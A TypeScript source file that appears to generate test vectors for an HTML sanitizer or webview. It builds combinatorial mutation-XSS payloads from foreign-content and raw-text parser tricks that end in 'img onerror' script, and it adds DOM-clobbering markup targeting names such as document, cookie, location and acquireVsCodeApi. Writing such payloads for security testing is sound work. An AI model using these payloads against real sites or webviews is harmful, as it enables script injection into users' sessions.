import { crossed, type Vector } from '../vector.ts';

/** Foreign content, and the places in it where HTML begins again: a parser that reads the text a second time reads another one. */
const roots = ['svg', 'math'];
const points = ['desc', 'title', 'foreignObject', 'mtext', 'mi', 'annotation-xml encoding=text/html', 'p', 'table'];
/** Elements in which a first reader sees text alone. */
const rawTexts = ['style', 'noscript', 'textarea', 'xmp', 'iframe', 'noembed', 'noframes', 'plaintext'];

export const mutations: readonly Vector[] = [
  ...crossed(
    crossed(roots, points, (root, point) => () => `<${root}><${point}>`).map(start => start({ code: '', url: '' })),
    rawTexts,
    (start, raw): Vector =>
      ({ code }) =>
        `${start}<${raw}><a title="</${raw}><img src=x onerror=${code}>">`,
  ),
  ({ code }) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
  ({ code }) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${code}>`,
  ({ code }) => `<svg></p><style><a id="</style><img src=x onerror=${code}>">`,
  ({ code }) => `<select><keygen><style><!--</style><img src=x onerror=${code}>-->`,
  ({ code }) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  ({ code }) => `<svg><![CDATA[<img title="]]><img src=x onerror=${code}>">]]></svg>`,
  ({ code }) => `${'<div>'.repeat(520)}<img src=x onerror=${code}>`,
  ({ code }) => `<table><a><img src=x onerror=${code}></a><tr><td></table>`,
];

/** Names of what the page uses, given to elements: `document.x` and `window.x` become those. */
const clobbered = [
  'acquireVsCodeApi',
  'executions',
  'document',
  'body',
  'root',
  'getElementById',
  'createElement',
  'createTextNode',
  'querySelector',
  'cookie',
  'URL',
  'parent',
  'location',
  'attributes',
  'nodeName',
  'postMessage',
];

export const clobbering = crossed(
  clobbered,
  ['id', 'name'],
  (name, attribute): Vector =>
    ({ url }) =>
      `<form ${attribute}=${name}><input ${attribute}=${name}></form><img ${attribute}=${name} src="${url}"><a ${attribute}=${name} href="clobbered:x">x</a>`,
);
